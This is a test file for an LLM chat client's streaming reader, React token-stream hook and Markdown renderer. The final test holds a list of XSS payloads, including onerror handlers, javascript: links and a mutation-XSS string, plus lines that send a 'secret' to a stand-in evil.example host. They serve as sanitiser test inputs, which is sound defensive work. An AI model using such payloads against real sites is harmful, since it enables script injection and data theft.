import type { ServerResponse } from "node:http";
import type { Page } from "playwright-core";
import { describe, expect, onTestFinished, test, vi } from "vitest";
import { CHAT_EVENTS } from "../src/llm/chat-events.ts";
import { ChatError, type Kind, postChat, readChat } from "../src/llm/read-chat.ts";
import { load, openPage } from "./support/browser.ts";
import type { Seen } from "./support/chat-app.tsx";
import { eventually, gone, serve, signal, sse } from "./support/server.ts";

declare const pattern: typeof import("../src/llm/render-markdown.ts") &
  typeof import("./support/chat-app.tsx") &
  typeof import("./support/activity-chat.tsx") & {
    toHtml(markdown: string): string;
    // `react-refresh/runtime`
    injectIntoGlobalHook(window: Window): void;
    register(component: unknown, id: string): void;
    performReactRefresh(): void;
  };

const never = new AbortController().signal;
const DONE = 'event: done\ndata: {"reason":"stop","tools":[],"usage":{"input":1,"output":2}}\n\n';
const token = (text: string): string => `event: text\ndata: ${JSON.stringify({ text })}\n\n`;

async function read(
  url: string,
  options: { signal?: AbortSignal; idleTimeout?: number } = {},
): Promise<[string, unknown]> {
  let text = "";
  const events = postChat(url, { messages: [] }, options.signal ?? never, options.idleTimeout);
  const outcome = await readChat(events, (_, delta) => void (text += delta)).catch((error: unknown) => error);
  return [text, outcome];
}

describe("readChat", () => {
  test("returns after the terminal event with the reason", async () => {
    const closed = signal();
    const server = await serve({
      "/chat": (_, response) => {
        sse(response, `:\n\nevent: ping\ndata: {}\n\nevent: later\ndata: ?\n\n${token("Hel")}${token("lo 😀")}${DONE}`);
        void gone(response).then(closed.resolve);
      },
    });
    const [text, outcome] = await read(`${server.origin}/chat`);
    expect(text).toBe("Hello 😀");
    expect(outcome).toEqual({ reason: "stop", tools: [], usage: { input: 1, output: 2 } });
    await closed.promise; // although the server had not ended it
  });

  test("a response that ends without the terminal event is truncated, wherever it is cut", async () => {
    const whole = token("a") + DONE;
    for (const cut of [0, 5, token("a").length, whole.length - 1]) {
      const server = await serve({ "/chat": (_, response) => void sse(response, whole.slice(0, cut)).end() });
      const [, outcome] = await read(`${server.origin}/chat`);
      expect(outcome).toBeInstanceOf(ChatError);
      expect(outcome).toMatchObject({ code: "truncated", retryable: true });
      await server.close();
    }
  });

  test("a connection that breaks is a network error, with the text so far", async () => {
    const server = await serve({
      "/chat": (_, response) => {
        sse(response, token("partial"));
        setTimeout(() => response.socket?.resetAndDestroy(), 20);
      },
    });
    const [text, outcome] = await read(`${server.origin}/chat`);
    expect([text, (outcome as ChatError).code]).toEqual(["partial", "network"]);
  });

  test("a failure in the stream and a refusal before it have the same shape", async () => {
    const error = { code: "overloaded", retryable: true, retry_after: 10 };
    const server = await serve({
      "/stream": (_, response) => void sse(response, `event: failed\ndata: ${JSON.stringify(error)}\n\n`),
      "/status": (_, response) =>
        void response
          .writeHead(503, { "content-type": "application/json", "retry-after": "10" })
          .end(JSON.stringify(error)),
      "/html": (_, response) =>
        void response.writeHead(502, { "content-type": "text/html" }).end("<h1>Bad gateway</h1>"),
      "/login": (_, response) => void response.writeHead(200, { "content-type": "text/html" }).end("<h1>Sign in</h1>"),
    });
    for (const path of ["/stream", "/status"]) {
      const [, outcome] = await read(`${server.origin}${path}`);
      expect(outcome).toMatchObject({ code: "overloaded", retryable: true, retryAfterMs: 10_000 });
    }
    expect((await read(`${server.origin}/html`))[1]).toMatchObject({ code: "http_502" });
    expect((await read(`${server.origin}/login`))[1]).toMatchObject({ code: "http_200" });
  });

  test("an abort throws its reason and closes the connection", async () => {
    const closed = signal();
    const server = await serve({
      "/chat": (_, response) => {
        sse(response, token("a"));
        void gone(response).then(closed.resolve);
      },
    });
    const stop = new AbortController();
    let text = "";
    const reading = readChat(postChat(`${server.origin}/chat`, {}, stop.signal), (_, delta) => {
      text += delta;
      stop.abort(new Error("the user pressed Stop"));
    });
    await expect(reading).rejects.toThrow("the user pressed Stop");
    await closed.promise;
    expect(text).toBe("a");
  });

  test("silence ends it, a ping does not count as silence, and neither does the consumer", async () => {
    const server = await serve({
      "/silent": (_, response) => void sse(response, token("a")),
      "/thinking": (_, response) => {
        sse(response);
        let pings = 0;
        const timer = setInterval(() => {
          response.write("event: ping\ndata: {}\n\n");
          if (++pings < 10) return;
          clearInterval(timer);
          response.write(DONE);
        }, 300);
      },
      "/fast": (_, response) => void sse(response, token("a") + DONE),
    });
    expect((await read(`${server.origin}/silent`, { idleTimeout: 300 }))[1]).toMatchObject({ code: "silent" });
    expect((await read(`${server.origin}/thinking`, { idleTimeout: 2_500 }))[1]).toMatchObject({ reason: "stop" });
    const slow = readChat(
      postChat(`${server.origin}/fast`, {}, never, 300),
      () => new Promise((resolve) => setTimeout(resolve, 500)),
    );
    expect(await slow).toMatchObject({ reason: "stop" });
  });

  test("after the machine has slept, what had arrived is read before the silence counts", async () => {
    vi.useFakeTimers({ toFake: ["setTimeout", "clearTimeout", "Date"] });
    onTestFinished(() => void vi.useRealTimers());
    let arrives: ReadableStreamDefaultController<Uint8Array> | undefined;
    const body = new ReadableStream<Uint8Array>({ start: (controller) => void (arrives = controller) });
    const response = new Response(body, { headers: { "content-type": "text/event-stream" } });
    const done = readChat(response, () => undefined);
    await vi.advanceTimersByTimeAsync(1_000);
    vi.setSystemTime(Date.now() + 3_600_000);
    await vi.advanceTimersByTimeAsync(44_500); // the timer fires, an hour late
    arrives?.enqueue(new TextEncoder().encode('event: done\ndata: {"reason":"stop"}\n\n'));
    await expect(done).resolves.toMatchObject({ reason: "stop" });
    // Without a byte after it, the silence ends the answer.
    const never = new Response(new ReadableStream(), { headers: response.headers });
    const silent = readChat(never, () => undefined).catch((error: unknown) => error);
    await vi.advanceTimersByTimeAsync(47_000);
    expect(await silent).toMatchObject({ code: "silent" });
  });

  test("kinds are told apart and finish reasons are kept", async () => {
    const server = await serve({
      "/chat": (_, response) =>
        void sse(
          response,
          'event: reasoning\ndata: {"text":"hm"}\n\nevent: refusal\ndata: {"text":"no"}\n\n' +
            DONE.replace("stop", "max_tokens"),
        ),
    });
    const kinds: [Kind, string][] = [];
    const done = await readChat(
      postChat(`${server.origin}/chat`, {}, never),
      (kind, text) => void kinds.push([kind, text]),
    );
    expect(kinds).toEqual([
      ["reasoning", "hm"],
      ["refusal", "no"],
    ]);
    expect(done.reason).toBe("max_tokens");
  });

  test("a response of the caller is read alike, with names of the caller's contract", async () => {
    const server = await serve({
      "/chat": (_, response) =>
        void sse(
          response,
          `${token("ignored")}event: delta\ndata: {"text":"Hello"}\n\n${DONE.replace("done", "answer:end")}`,
        ),
      "/status": (_, response) =>
        void response.writeHead(429, { "retry-after": "7" }).end('{"code":"busy","retryable":true}'),
      "/null": (_, response) => void response.writeHead(500).end("null"),
    });
    let text = "";
    const names = { ...CHAT_EVENTS, text: "delta", done: "answer:end" };
    const done = await readChat(await fetch(`${server.origin}/chat`), (_, delta) => void (text += delta), names);
    expect([text, done.reason]).toEqual(["Hello", "stop"]);
    const refused = readChat(await fetch(`${server.origin}/status`), () => undefined);
    await expect(refused).rejects.toMatchObject({ code: "busy", retryAfterMs: 7_000 });
    await expect(readChat(await fetch(`${server.origin}/null`), () => undefined)).rejects.toMatchObject({
      code: "http_500",
    });
  });

  test("a response without a stream is a final error that says so", async () => {
    const response = new Response(null, { headers: { "content-type": "text/event-stream" } });
    await expect(readChat(response, () => undefined)).rejects.toMatchObject({ code: "no_stream", retryable: false });
  });
});

describe("useTokenStream in Chromium", () => {
  const mount = async (page: Page, which: "Chat" | "OnMount" = "Chat"): Promise<() => Promise<Seen>> => {
    await load(page, "test/support/chat-app.tsx");
    await page.evaluate((which) => Object.assign(window, { seen: pattern.mountChat(which) }), which);
    if (which === "Chat") await page.waitForSelector("#send");
    return () => page.evaluate(() => (window as unknown as { seen: Seen }).seen);
  };

  test("renders once a frame, not once a token", async () => {
    const server = await serve({
      "/chat": async (_, response) => {
        sse(response);
        for (let at = 0; at < 2_000; at++) {
          response.write(token("x"));
          if (at % 100 === 99) await new Promise((resolve) => setImmediate(resolve));
        }
        response.write(DONE);
      },
    });
    const page = await openPage(server.origin);
    const seen = await mount(page);
    await page.click("#send");
    await eventually(async () => (await seen()).status === "done");
    const { text, reason, renders } = await seen();
    expect([text.length, reason]).toEqual([2_000, "stop"]);
    // Without batching it would be one for each network chunk at best, and 2,000 at worst.
    expect(renders).toBeLessThan(400);
  });

  test("Stop keeps the text as stopped and closes the connection", async () => {
    const closed = signal();
    const server = await serve({
      "/chat": (_, response) => {
        sse(response, token("partial"));
        void gone(response).then(closed.resolve);
      },
    });
    const page = await openPage(server.origin);
    const seen = await mount(page);
    await page.click("#send");
    await eventually(async () => (await seen()).text === "partial");
    await page.click("#stop");
    await closed.promise;
    await eventually(async () => (await seen()).status === "stopped");
    expect((await seen()).text).toBe("partial");
  });

  test("a truncated answer has the status failed", async () => {
    const server = await serve({ "/chat": (_, response) => void sse(response, token("half an ans")).end() });
    const page = await openPage(server.origin);
    const seen = await mount(page);
    await page.click("#send");
    await eventually(async () => (await seen()).status === "failed");
    expect(await seen()).toMatchObject({ text: "half an ans", code: "truncated" });
  });

  test("unmounting closes the connection, and a second send replaces the first", async () => {
    const closed: number[] = [];
    const server = await serve({
      "/chat": (_, response, nth) => {
        sse(response, token(`answer ${nth}`));
        void gone(response).then(() => closed.push(nth));
      },
    });
    const page = await openPage(server.origin);
    const seen = await mount(page);
    await page.click("#send");
    await eventually(async () => (await seen()).text === "answer 1");
    await page.click("#send");
    await eventually(async () => (await seen()).text === "answer 2");
    expect((await seen()).status).toBe("streaming");
    await page.evaluate(() => pattern.unmountChat());
    await eventually(() => closed.length === 2);
  });

  test("an answer asked for by an effect is begun twice in StrictMode, and the first is aborted", async () => {
    const closed: number[] = [];
    const server = await serve({
      "/chat": (_, response, nth) => {
        sse(response, token(`answer ${nth}`));
        void gone(response).then(() => closed.push(nth));
      },
    });
    const page = await openPage(server.origin);
    await mount(page, "OnMount");
    await eventually(async () => (await page.textContent("body"))!.includes("answer"));
    await eventually(() => closed.length + 1 >= server.hits.get("/chat")! && server.hits.has("/chat"));
    // The first may be aborted before it has left the browser; it is never read.
    expect(await page.textContent("output")).toBe(`answer ${server.hits.get("/chat")}`);
  });
});

describe("useTokenStream under React", () => {
  test("hidden by Activity it is stopped, not streaming forever", async () => {
    const closed = signal();
    const server = await serve({
      "/chat": (_, response) => {
        sse(response, token("Half an ans"));
        void gone(response).then(closed.resolve);
      },
    });
    const page = await openPage(server.origin);
    await load(page, "test/support/activity-chat.tsx");
    await page.evaluate(() => pattern.mountActivity());
    await page.click("#send");
    await page.waitForFunction(() => document.querySelector("output")?.textContent === "Half an ans");
    await page.click("#navigate");
    await closed.promise;
    await page.click("#navigate");
    await page.waitForFunction(() => document.querySelector("#status")?.textContent === "stopped");
    expect(await page.textContent("output")).toBe("Half an ans");
    await page.click("#send");
    await page.waitForFunction(() => document.querySelector("#status")?.textContent === "streaming");
    // The state changes before the request arrives.
    await eventually(async () => server.hits.get("/chat") === 2);
  });

  // React 19.3 runs the effects again, but not under StrictMode: there the answer continues.
  test.each([true, false])("after Fast Refresh no answer stays streaming, StrictMode: %s", async (strict) => {
    const opened = signal<ServerResponse>();
    const server = await serve({ "/chat": (_, response) => opened.resolve(sse(response, token("Half an ans"))) });
    const page = await openPage(server.origin);
    // The runtime hooks into React before React is loaded.
    await load(page, "../nextjs/node_modules/next/dist/compiled/react-refresh/runtime.js");
    await page.evaluate(() => pattern.injectIntoGlobalHook(window));
    await load(page, "test/support/activity-chat.tsx");
    await page.evaluate((inStrict) => {
      pattern.register(pattern.Chat, "Chat");
      pattern.mountActivity("/chat", inStrict ? undefined : pattern.Fragment);
    }, strict);
    await page.click("#send");
    await page.waitForFunction(() => document.querySelector("output")?.textContent === "Half an ans");
    await page.evaluate(() => {
      pattern.register(pattern.EditedChat, "Chat");
      pattern.performReactRefresh();
    });
    await page.waitForSelector("section #status");
    const response = await opened.promise;
    if (strict) response.end(token("wer.") + DONE);
    else await gone(response);
    const [status, text] = strict ? ["done", "Half an answer."] : ["stopped", "Half an ans"];
    await page.waitForFunction((end) => document.querySelector("#status")?.textContent === end, status);
    expect(await page.textContent("output")).toBe(text);
  });

  test("a page that is hidden after it has asked for a frame shows the text", async () => {
    const server = await serve({ "/chat": (_, response) => void sse(response, token("in the dark")) });
    const page = await openPage(server.origin);
    await load(page, "test/support/activity-chat.tsx");
    // What a hidden page is given: a frame that never comes.
    await page.evaluate(() => {
      window.requestAnimationFrame = () => 0;
      pattern.mountActivity();
    });
    await page.click("#send");
    await page.waitForFunction(() => document.querySelector("output")?.textContent === "in the dark");
  });
});

describe("renderMarkdown in Chromium", () => {
  test("attacks become text, in every cut of the stream", async () => {
    const evil = await serve({ "/pixel.png": (_, response) => void response.end() });
    const page = await openPage((await serve({})).origin);
    await load(page, "llm/render-markdown.ts", "test/support/markdown.ts");
    const asked: string[] = [];
    page.on("dialog", (dialog) => {
      asked.push(dialog.message());
      void dialog.dismiss();
    });
    const attacks = [
      "<img src=x onerror=window.hacked=1>",
      "<svg onload=window.hacked=1><p>svg</p></svg>",
      "<script>window.hacked=1</script>after",
      "[click](javascript:window.hacked=1)",
      "[click](JaVa\tScript:window.hacked=1)",
      `![secret](${evil.origin}/pixel.png?q=secret)`,
      "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
      "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hacked=1&gt;'>",
      "<a href='https://evil.example/?q=secret'>docs</a>",
      "<form action='https://evil.example'><button formaction='javascript:window.hacked=1'>x</button></form>",
      `<p style='background:url(${evil.origin}/pixel.png)' onclick='window.hacked=1'>styled</p>`,
    ];
    const result = await page.evaluate(async (attacks) => {
      const at = document.body.appendChild(document.createElement("div"));
      const html = [];
      const names = new Set<string>();
      for (const attack of attacks) {
        for (let cut = 1; cut <= attack.length; cut++) {
          pattern.renderMarkdown(at, attack.slice(0, cut), pattern.toHtml);
          if (cut === attack.length) for (const link of at.querySelectorAll<HTMLElement>("a, button")) link.click();
          for (const element of at.querySelectorAll("*")) {
            names.add(element.tagName);
            for (const { name } of element.attributes) names.add(name);
          }
        }
        html.push(at.innerHTML);
      }
      // A request of this page's own, after which those of the attacks would have been sent.
      await fetch("/");
      return { html, names: [...names], hacked: "hacked" in window };
    }, attacks);
    expect(result.hacked).toBe(false);
    expect(evil.hits.get("/pixel.png")).toBeUndefined();
    expect(result.names.sort()).toEqual(["BUTTON", "P", "title", "type"]);
    // Nothing is opened before the reader has seen the complete address.
    expect(asked).toEqual(["Open this address?\n\nhttps://evil.example/?q=secret"]);
    expect(page.context().pages()).toHaveLength(1);
  });

  test("ordinary Markdown stays what it is", async () => {
    const page = await openPage((await serve({})).origin);
    await load(page, "llm/render-markdown.ts", "test/support/markdown.ts");
    const html = await page.evaluate(() => {
      const links = ({ pathname }: URL): "open" | "text" => (pathname.startsWith("/docs/") ? "open" : "text");
      const markdown = "# A\n\n*b* `c < d`\n\n- [e](/docs/f)\n- [x] [g](/logout)\n\n3. h\n\n```ts\ng();\n```";
      pattern.renderMarkdown(document.body, markdown, pattern.toHtml, links);
      return document.body.innerHTML.replaceAll(location.origin, "");
    });
    expect(html).toBe(
      '<h1>A</h1>\n<p><em>b</em> <code>c &lt; d</code></p>\n<ul>\n<li><a href="/docs/f" rel="noopener noreferrer">e</a></li>\n<li>☑  g (/logout)</li>\n</ul>\n' +
        '<ol start="3">\n<li>h</li>\n</ol>\n<pre><code class="language-ts">g();\n</code></pre>\n',
    );
  });
});
